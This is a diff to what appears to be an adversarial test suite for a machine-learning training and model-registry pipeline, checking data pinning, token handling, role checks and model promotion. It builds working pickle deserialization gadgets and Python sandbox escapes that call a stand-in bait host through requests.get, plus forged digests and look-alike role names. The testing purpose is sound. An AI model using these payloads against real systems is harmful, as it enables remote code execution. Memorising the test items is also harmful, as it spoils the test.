@@ -4,7 +4,7 @@ import type { Act, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, W
 export const build: Build = (world) => {
   const shop = makeShop(world);
   const { good, version } = shop;
-  const { sha256, reveals } = world;
+  const { sha256, hmac, reveals } = world;
   const bait = `https://${world.nonce()}.example/ran`;
   const step = (name: string, more: Partial<Around>, calls: Call[], judge: (seen: Seen) => Judgement): Step => ({ name, shows: name, surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, judge });
   /** The same in a process of its own for each of these surroundings; all are judged. */
@@ -22,7 +22,7 @@ export const build: Build = (world) => {
   const served = (name: string, ...artefacts: string[]): Step => step(name, { storage: Object.fromEntries([['tags/production', 'm0'], ...artefacts.map((text, at) => [`models/m${at}`, text])]) },
     artefacts.flatMap((_text, at) => [call('promote', 't-approver', `m${at}`), call('predict', 'x')]), ran);
   const rows = (...more: string[]): Partial<Around>[] => more.map((row) => ({ data: `${good}${row}\n` }));
-  const refuses = (name: string, ...mores: Partial<Around>[]): Step => steps(name, mores, [call('train', version)], ({ log }) => fails(stored(log) ? 'a model was stored all the same' : announced(log) && 'the registry was told of a model that is not there'));
+  const refuses = (name: string, ...mores: Partial<Around>[]): Step => steps(name, mores, [call('train', version)], ({ log, answers: [answer] }) => fails(stored(log) ? 'a model was stored all the same' : announced(log) ? 'the registry was told of a model that is not there' : answer?.error === undefined && `it did not raise: ${answer?.text.slice(0, 100)}`));
   const options = (text: string): Partial<Around> => ({ env: { TRAIN_OPTIONS: text } });
   const times = (count: number, text: (at: number) => string, label: string): string => Array.from({ length: count }, (_, at) => `${text(at)},${label}\n`).join('');
   const large = `text,label\n${times(12, () => Array.from({ length: 250 }, (_, at) => `w${at}`).join(' '), 'spam')}${times(12, () => 'often größe', 'spam')}${times(11, () => 'seldom', 'spam')}${times(12, () => 'fine', 'ok')}${times(1, () => 'filler '.repeat(12_000).trim(), 'ok')}`;
@@ -31,24 +31,69 @@ export const build: Build = (world) => {
   const quiet = (text: string): string => text.replaceAll('__', '_＿').replace(/'_＿import_＿'/, "'_'+'_imp'+'ort_'+'_'");
   const walk = `[c for c in ().__class__.__base__.__subclasses__() if ${anyClass}['__import__']('requests').get('${bait}')`;
 
+  // Whoever has the repository knows its texts: as variables of the job, as keys in the bucket, as what a setting may say, in a model file.
+  const texts = [...new Set(Object.values(world.files).flatMap((text) => [...text.matchAll(/(["'])((?:\\.|(?!\1)[^\n])*)\1/g)].map((found) => found[2] ?? '')))].filter((text) => /^[\w$@.:/ -]{1,60}$/.test(text)).slice(0, 80);
+  const variables = texts.filter((text) => /^[A-Z][A-Z\d_]+$/.test(text) && !['DATA_URL', 'DATA_SHA256', 'REGISTRY_TOKEN', 'TRAIN_OPTIONS'].includes(text));
+  const asVariables = (value: string): Record<string, string> => Object.fromEntries(variables.map((name) => [name, value]));
+  const inBucket = (value: string): Record<string, string> => Object.fromEntries(texts.filter((text) => !/^(models|tags)\//.test(text)).map((text) => [text, value]));
+  /** What something is compared with. */
+  const compared = Object.values(world.files).flatMap((text) => [...text.matchAll(/(?:[!=]=|\bin\b)\s*[([{]?\s*["']([^"'\n]{1,40})["']/g)].map((found) => found[1] ?? ''));
+  const poisoned = `${good}"${world.nonce()} lovely",spam\n`;
+  const calls = `__import__('requests').get('${bait}')`;
+  /** What the pipeline itself stored, with something else in it: each change is served once. */
+  const changed = (stored: string): string[] => {
+    const [isWrapped, text] = unwrapped(stored);
+    const again = (one: string): string => (isWrapped ? btoa(one) : one);
+    const evil = btoa(`crequests\nget\n(V${bait}\ntR.`);
+    const names = texts.filter((one) => /^[\w$@]{1,20}$/.test(one)).slice(0, 14);
+    const gadgets = [...names.flatMap((name) => [['requests.get', [bait]], ['requests.get', { url: bait }], [calls, calls]].map(([first, other]) => JSON.stringify({ ...Object.fromEntries(names.map((one) => [one, other])), [name]: first }))),
+      ...names.slice(0, 8).flatMap((module) => names.slice(0, 8).filter((name) => name !== module).flatMap((name) => [[bait], { url: bait }].map((other) => JSON.stringify({ ...Object.fromEntries(names.filter((one) => /arg|param|state|data|value|init/i.test(one)).map((one) => [one, other])), [module]: 'requests', [name]: 'get' }))))];
+    const packed = /[A-Za-z\d+/]{24,}={0,2}/.exec(stored.replace(/[\da-f]{64}/, (digest) => '-'.repeat(digest.length)))?.[0];
+    const sealed = (digestOf: (text: string) => string): string[] => (packed === undefined ? [] : [stored.replace(packed, evil).replace(/[\da-f]{64}/, digestOf(evil)), stored.replace(packed, evil).replace(/[\da-f]{64}/, digestOf(atob(evil)))]);
+    return [
+      ...sealed(sha256), ...texts.slice(0, 30).flatMap((key) => (/[\da-f]{64}/.test(stored) ? sealed((one) => hmac(key, one)) : [])),
+      text.replace(/\d+/, calls), text.replace(/\d+/g, calls), text.replace(/\b\d+(?!.*\d)/, calls), again(text.replace(/\d+/g, JSON.stringify(calls))),
+      ...texts.slice(0, 40).flatMap((kind) => [`${kind}:${evil}`, `${kind}${evil}`, text.replace(/^(\W*)[\w-]+/, `$1${kind}`).replace(/(^\W*[\w-]+\W+)[^]*/, `$1${evil}`)]),
+      ...(/^\s*[[{]/.test(text) ? gadgets : []).map(again),
+    ].filter((one, at, all) => one !== stored && all.indexOf(one) === at);
+  };
+  const tried = (all: string[], at: number): Act => ({
+    surroundings: around(shop, { pinned: sha256(good), storage: { 'tags/production': 'm0', ...Object.fromEntries(all.slice(at, at + 30).map((text, n) => [`models/m${n}`, text])) } }),
+    calls: all.slice(at, at + 30).flatMap((_text, n) => [call('promote', 't-approver', `m${n}`), call('predict', 'x')]),
+    ...(at + 30 < all.length && { next: () => tried(all, at + 30) }),
+  });
+
   return [
-    served('another-gadget', btoa(`cbuiltins\nexec\n(V${code}\ntR.`), btoa(throughGlobals(code)), btoa(throughTheModules(code)), btoa(throughAMethod(code)), btoa(spelt(code))),
+    {
+      // First the pickle that start/ would load; what the pipeline stores itself comes after.
+      ...step('a-gadget-in-its-own-format', { storage: { 'tags/production': 'm0', 'models/m0': btoa(`cbuiltins\nexec\n(V${code}\ntR.`) } }, [call('predict', 'x'), call('train', version)], ran),
+      next: ({ storage }) => tried(changed(storage[`models/${version}`] ?? ''), 0),
+      judge: (_last, acts) => acts.map(ran).find(({ ok }) => !ok) ?? { ok: true },
+    },
+    refuses('a-check-that-can-be-switched-off', ...['1', 'true', 'off'].map((value) => ({ data: poisoned, pinned: sha256(good), env: asVariables(value) })), ...[...new Set(['*', 'none', `${sha256(good)}00`, ...compared])].slice(0, 12).map((pinned) => ({ pinned }))),
+    steps('a-token-from-elsewhere', [{ env: { REGISTRY_TOKEN: '', ...asVariables(`rg-${world.nonce()}`) } }, { env: { REGISTRY_TOKEN: undefined, ...asVariables(`rg-${world.nonce()}`) }, storage: inBucket(`rg-${world.nonce()}`) }], [call('train', version)], ({ log, answers }) => fails(announced(log) ? 'the registry was called, without REGISTRY_TOKEN' : answers[0]?.error === undefined && 'it did not raise, without REGISTRY_TOKEN')),
+    step('a-second-training', { before: good, data: poisoned, pinned: sha256(good) }, [call('train', 'first'), call('train', version)], ({ answers: [, second] }) => {
+      const rows = (second?.value as { rows?: unknown } | undefined)?.rows;
+      return fails(rows === poisoned.trim().split('\n').length - 1 && `a model trained on ${rows} rows, of which one was never reviewed, after a training on the right ones`);
+    }),
+    steps('a-role-that-was-asked-before', [{ env: asVariables('1') }, { env: asVariables('true') }], [call('train', version), call('train', 'first'), call('promote', 't-reader', version), call('promote', 't-approver', version), call('promote', 't-approver', 'first'), call('promote', 't-reader', version)], ({ log, answers }) => fails((promoted(log) === version || answers[2]?.text.includes('"production"')) && 'production moved by a reader')),
+    served('another-gadget', btoa(`cbuiltins\nexec\n(V${code}\ntR.`), btoa(throughGlobals(code)), btoa(throughTheModules(code)), btoa(throughAMethod(code)), btoa(spelt(code)), ...['builtins\nprint.__self__.exec'].map((name) => btoa(`\x80\x04c${name}\n(V${code}\ntR.`)), ...['collections\nnamedtuple', 'functools\nwraps', 'copyreg\n_reconstructor'].map((name) => btoa(`\x80\x04c${name}.__builtins__.get\n(Vexec\ntR(V${code}\ntR.`))),
     served('an-artefact-that-is-evaluated', btoa(`crequests\nget\n(V${bait}\ntR.`), `__import__('requests').get('${bait}')`, walk, `{'ok': ${walk}}`),
     served('a-gadget-in-an-attribute', btoa(`c_pickle\nloads\n(ccodecs\nencode\n(Vcrequests\\u000aget\\u000a(V${bait}\\u000atR.\nVlatin1\ntRtR.`)),
-    steps('options-without-names', [options(`${walk} or {}`), options(`{'min_count': ${quiet(walk)} and 1}`), options(`{**(__import__('requests').get('${bait}') and {})}`)], [call('train', version)], ran),
+    steps('options-without-names', [options(`${walk} or {}`), options(`{'min_count': ${quiet(walk)} and 1}`), options(`{**(__import__('requests').get('${bait}') and {})}`), options(JSON.stringify({ min_count: calls })), options(JSON.stringify({ min_count: 1, other: calls, __class__: 'requests.get' }))], [call('train', version)], ran),
     step('a-role-that-resembles', {}, [call('train', version), call('train', 'first'), call('promote', 't-approver', 'first'), ...Object.keys(RESEMBLING).map((token) => call('promote', token, version))], ({ log, answers }) => fails((promoted(log) !== 'first' || answers.slice(3).some(({ value }) => (value as { production?: unknown } | undefined)?.production === version)) && `production moved, or was said to have moved, by one of ${Object.values(RESEMBLING).join(', ')}`)),
     step('a-token-nobody-has', {}, [call('train', version), call('promote', 'none', version), call('promote', '', version)], ({ log }) => fails(promoted(log) && 'production moved without a known token')),
-    refuses('a-pin-that-is-missing', { env: { DATA_SHA256: undefined } }, { env: { DATA_SHA256: '' } }),
-    refuses('a-pin-of-a-part', ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`].map((data) => ({ data, pinned: sha256(good) }))),
+    refuses('a-pin-that-is-missing', ...[undefined, ''].flatMap((pin) => [{ env: { DATA_SHA256: pin } }, { env: { DATA_SHA256: pin, ...asVariables(sha256(good)) }, elsewhere: sha256(good), storage: inBucket(sha256(good)) }])),
+    refuses('a-pin-of-a-part', ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`, `\ufeff${good}`].map((data) => ({ data, pinned: sha256(good) }))),
     step('trains-on-what-it-compared', { before: good, data: `${good}"${world.nonce()}",spam\n`, pinned: sha256(good) }, [call('train', version)], ({ answers }) => fails((answers[0]?.value as { rows?: number } | undefined)?.rows === good.trim().split('\n').length && 'a model trained on what the address gave the second time')),
     steps('a-token-that-is-empty', [{ env: { REGISTRY_TOKEN: '' } }], [call('train', version)], ({ log }) => fails(log.some(({ does }) => does === 'service.call' || does === 'http.request' || does === 'storage.put') && 'without a token somebody was called, or something was stored')),
     steps('token-in-what-went-wrong', [{ pinned: sha256('x') }, ...rows(`"${world.nonce()}",promoted`), options('{'), { isDown: true }], [call('train', version), call('promote', 't-reader', version)], ({ printed, answers }) => {
       const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, shop.token));
       return fails(line && `the registry's token, whole or in large part: ${line.slice(0, 200)}`);
     }),
-    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `${'"fine",ok\n'.repeat(300)}"${world.nonce()}",promoted`)),
+    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', 'o', 'pa', 'ok spam', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `${'"fine",ok\n'.repeat(300)}"${world.nonce()}",promoted`)),
     refuses('an-empty-review', ...rows('"",ok')),
-    step('quiet-about-who-promotes', {}, [call('train', version), call('promote', shop.person, version), call('promote', `${shop.person}x`, version)], ({ printed }) => fails(reveals(printed, shop.person) && `the token of whoever promoted, in the log: ${printed.slice(-200)}`)),
+    step('quiet-about-who-promotes', {}, [call('train', version), call('promote', shop.person, version), call('promote', `${shop.person}x`, version), call('promote', shop.person, 'none'), call('promote', `${shop.person}-reads`, version)], ({ printed }) => fails(reveals(printed, shop.person) && `the token of whoever promoted, in the log: ${printed.slice(-200)}`)),
     step('large-and-counted', { data: large, env: { TRAIN_OPTIONS: '{"min_count": 12}' } }, [call('train', version), call('promote', 't-approver', version), ...['OFTEN', 'seldom', 'größe', 'w249'].map((word) => call('predict', word))], ({ answers }) => {
       const got = answers.slice(2).map(({ value, text }) => String((value as { label?: unknown } | undefined)?.label ?? text.slice(0, 60))).join(', ');
       return fails(got !== 'spam, ok, spam, spam' && `${got} for words that occur 12, 11, 12 and 12 times in spam, with min_count 12`);
@@ -58,15 +103,15 @@ export const build: Build = (world) => {
       next: ({ storage }) => ({ surroundings: around(shop, { data: turned, pinned: sha256(turned), storage }), calls: [call('train', 'b'), call('promote', 't-approver', 'a'), call('predict', shop.spamWord), call('promote', 't-approver', 'b'), call('predict', shop.spamWord)] }),
       judge: ({ answers }) => fails(((label) => label(2) !== 'spam' || label(4) !== 'ok')((at: number) => (answers[at]?.value as { label?: unknown } | undefined)?.label) && `${answers[2]?.text} and, after production moved on, ${answers[4]?.text}`),
     },
-    step('promotes-what-is-not-there', { storage: { 'archive/old': '{}', 'models/nightly/n1': '{}' } }, [call('train', `${version}0`), call('promote', 't-approver', `${version}0`), ...['none', version, 'production', 'old', '', 'n1'].map((one) => call('promote', 't-approver', one))], ({ log }) => fails(log.some((entry) => entry.does === 'storage.put' && entry.key === 'tags/production' && entry.text !== `${version}0`) && 'production points at a model that is not there')),
+    step('promotes-what-is-not-there', { storage: { 'archive/old': '{}', 'models/nightly/n1': '{}' } }, [call('train', `${version}0`), call('promote', 't-approver', `${version}0`), ...['none', version, 'production', 'old', '', 'n1', ` ${version}0`, `${version}0\n`, `${version}0`.toUpperCase(), `${version}0/`, `./${version}0`].map((one) => call('promote', 't-approver', one))], ({ log }) => fails(log.some((entry) => entry.does === 'storage.put' && entry.key === 'tags/production' && entry.text !== `${version}0`) && 'production points at a model that is not there')),
   ];
 };
 
 type Shop = { token: string; person: string; url: string; good: string; version: string; okWord: string; spamWord: string };
-type Around = { isDown: boolean; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };
+type Around = { isDown: boolean; elsewhere: string; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };
 
 /** Tokens of people whose role is not `approver`. */
-const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '' };
+const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '', 't-space': 'approver ', 't-line': 'approver\n', 't-wide': '\uff41pprover', 't-plural': 'approvers', 't-not': 'non-approver' };
 
 function makeShop(world: World): Shop {
   const [okWord, spamWord] = [world.nonce(), world.nonce()];
@@ -74,15 +119,15 @@ function makeShop(world: World): Shop {
   return { token: `rg-${world.nonce()}`, person: `pt-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
 }
 
-function around({ token, person, url, good }: Shop, { isDown = false, data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
+function around({ token, person, url, good }: Shop, { isDown = false, elsewhere = '', data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
   const all: Record<string, string | undefined> = { DATA_URL: url, DATA_SHA256: pinned, REGISTRY_TOKEN: token, ...env };
   return {
     env: Object.fromEntries(Object.entries(all).filter((pair): pair is [string, string] => pair[1] !== undefined)),
     storage,
-    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data }, { url: 'https://*', body: '' }],
+    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data }, { url: 'https://*', body: elsewhere }],
     services: {
       registry: { announce: [isDown ? { fails: 'the registry is down' } : { returns: true }] },
-      tokens: { find: [{ when: [person], returns: { id: 'a2', role: 'approver' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
+      tokens: { find: [{ when: [person], returns: { id: 'a2', role: 'approver' } }, { when: [`${person}-reads`], returns: { id: 'r3', role: 'reader' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
     },
   };
 }
@@ -109,4 +154,13 @@ const throughTheModules = (code: string): string => `\x80\x04coperator\nattrgett
 function spelt(code: string): string {
   const escaped = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
   return `\x80\x04V${escaped('builtins')}\nV${escaped('exec')}\n\x93(V${escaped(code)}\ntR.`;
+}
+
+/** The text itself, or what it is in base64 of. */
+function unwrapped(stored: string): [isWrapped: boolean, text: string] {
+  try {
+    return /^[A-Za-z\d+/]{16,}={0,2}$/.test(stored) ? [true, atob(stored)] : [false, stored];
+  } catch {
+    return [false, stored];
+  }
 }
